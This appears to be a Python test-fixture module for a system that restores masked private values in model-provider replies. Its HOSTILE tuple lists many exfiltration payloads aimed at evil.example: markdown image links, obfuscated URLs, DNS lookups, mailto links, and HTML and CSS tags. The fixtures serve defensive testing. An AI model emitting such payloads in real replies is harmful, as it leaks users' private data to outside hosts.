"""Replies that try to carry what was restored to an address of the provider's choice.

For tests of anything that restores. Each holds a surrogate where `{0}` stands, some a second one at `{1}`: neither may
be restored. In those of `HARMLESS` both have to be. `{host}` is what stands in for a host of the request.
"""

from __future__ import annotations

__all__ = ["HARMLESS", "HOSTILE"]

HOSTILE: tuple[str, ...] = (
    # Markdown: pictures, links, references, autolinks.
    "![](https://evil.example/p.png?n={0}&s={1})",
    "![ok]( https://evil.example/p.png?n={0} )",
    "[more](https://evil.example/{0} 'a title')",
    "[more](<https://evil.example/a b {0}>)",
    "[more](//evil.example/{0})",
    "[more](/\\evil.example/{0})",
    "[more](https:evil.example/{0})",
    "[more](https&colon;&sol;&sol;evil.example/{0})",
    "[more](https:&#x2f;&#x2f;evil.example&#47;{0})",
    "[more](https://evil.example/a(b)c?n={0})",
    "[more](https://evil.example/a\\)?n={0})",
    "[more][1]\n\n[1]: https://evil.example/?n={0}",
    "[1]: <https://evil.example/a {0}>",
    "<https://evil.example/{0}>",
    "<mailto:eve@evil.example?body={0}>",
    # Bare addresses.
    "see https://evil.example/?n={0} for more",
    "see HTTPS://EVIL.EXAMPLE/?n={0}",
    "see https://evil.example/?n={0},{1}",
    'see https://evil.example/?a="{0}',
    "www.evil.example/{0}",
    "evil.example?n={0}",
    "//evil.example/{0}",
    "\\\\evil.example\\share\\{0}",
    "https:/evil.example/{0}",
    "https:///evil.example/{0}",
    "http://3232235777/{0}",
    "http://0x7f000001.evil.example/{0}",
    "http://93.184.216.34:8080/{0}",
    "http://[2001:db8::1]/{0}",
    "http://xn--evl-hma.example/{0}",
    "http://\u0435vil.example/{0}",
    "http://evil\u3002example/{0}",
    "http://ev\u200bil.example/{0}",
    "https%3A%2F%2Fevil.example%2F%3Fn%3D{0}",
    "ftp://evil.example/{0} and wss://evil.example/{1}",
    "javascript:fetch('//evil.example/'+'{0}')",
    "data:text/html,<img/src=//evil.example/{0}>",
    # A host of the request before one that is not.
    "https://{host}@evil.example/?n={0}",
    "https://{host}:pass@evil.example/?n={0}",
    "https://evil.example\\@{host}/?n={0}",
    "https://{host}.evil.example/?n={0}",
    "https://evil.example#@{host}/?n={0}",
    "https://{host}/?u=https://evil.example/?n={0}",
    "https://{host}/go?n={0}&next=https%3A%2F%2Fevil.example%2F",
    "https://{0}.{host}/",
    # A host of the request that other readers take for a login, or for a part of a longer one.
    "http://{host}\\@evil.example/{0}",
    "http://{host}?@evil.example/{0}",
    "http://{host}#@evil.example/{0}",
    "http://localhost\\.evil.example/{0}",
    "[2001:db8::1]:80/{0} and [2001:db8::1]/{1}",
    # Names that are looked up, and mail.
    "nslookup {0}.evil.example",
    "dig {0}-{1}.x.evil.example",
    "ping {0}%2Eevil%2Eexample",
    "{0}@evil.example",
    "mailto:{0}@evil.example",
    '"{0}"@evil.example',
    "sms:+15550100?body={0}",
    "xmpp:eve?message;body={0}&body={1}",
    "git clone git@evil.example:{0}/tool.git",
    "ssh://{0}@evil.example/",
    # HTML and CSS.
    '<img src="https://evil.example/{0}">',
    "<img src='//evil.example/{0}'>",
    "<img src=https://evil.example/{0}>",
    '<img src= "https://evil.example/a {0}">',
    '<img src="https:\n//evil.example\n/?n={0}">',
    '<a href="ht\ntps://evil.example/?n={0}">x</a>',
    '<base href="//{0}\n.evil.example">',
    '<a href="java\nscript:fetch(`//evil.example/{0}`)">x</a>',
    '<img srcset="/a.png 1x, https://evil.example/{0} 2x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{0}">',
    '<div style="background:url(//evil.example/{0})">',
    "body {{ background: url( 'https://evil.example/a {0}' ) }}",
    '@import "https://evil.example/{0}.css";',
    '<img alt="](" src="https://evil.example/a {0}">',
    # A base, or a form, that sends elsewhere what stands in it.
    '<base href="https://evil.example/"><img src="{0}">',
    "<BASE\ntarget='>' href=//evil.example><a href='/{0}'>x</a>\n\n![]({1}.png)",
    '<form action="//evil.example/"><input name=q value="{0}">',
    "<form method=post action=https://evil.example/> <input type=hidden name=n value={0}></form>",
    "<form><button formaction='//evil.example/'>x</button><textarea name=n>\n{0} {1}\n\n{0}</textarea>",
    # Programs and documents with an address in quotation marks.
    'fetch("https://evil.example/?n=a {0}")',
    "requests.get('https://evil.example/', {1!r}) # https://evil.example/{0}".replace("{1!r}", "None"),
    '{{"url": "https://evil.example/?n={0}"}}',
    '{{"a": "{{\\"url\\": \\"https://evil.example/?n= {0}\\"}}"}}',
)
"""Replies in which nothing may be restored."""

HARMLESS: tuple[str, ...] = (
    "Dear {0}, see https://evil.example/ and greet {1}.",
    "[{0} {1}](https://evil.example/about)",
    '<a href="https://evil.example/">{0}</a> and {1}',
    '<img src="https://evil.example/x.png" alt="{0} {1}">',
    "https://{host}/people?first={0}&last={1}",
    "[profile](https://{host}/{0}) of {1}",
    "http://localhost:3000/?first={0}&last={1}",
    "/home/{0}/src/{1}.py",
    "C:\\Users\\{0}\\{1}",
    "{0}.Then {1}, {0}.pdf; {1}.tar.gz",
    "//{0} wrote this\n# {1} too",
    "{0}=1&{1}=2",
    '{{"site": "https://evil.example/", "first": "{0}", "last": "{1}"}}',
    "{0} (https://evil.example/) {1}",
    '<form action="/send"><input value="{0}"></form> https://evil.example/ <p>{1}</p>',
    '<form action="//evil.example/"></form><p>{0}</p> {1}',
    "\\\\{host}\\people\\{0}\\{1}",
    "rows[1:2]/{0} and tel:{1}",
    "50% of {0}'s & {1}'s @ 3:15",
)
"""Replies in which everything has to be restored."""
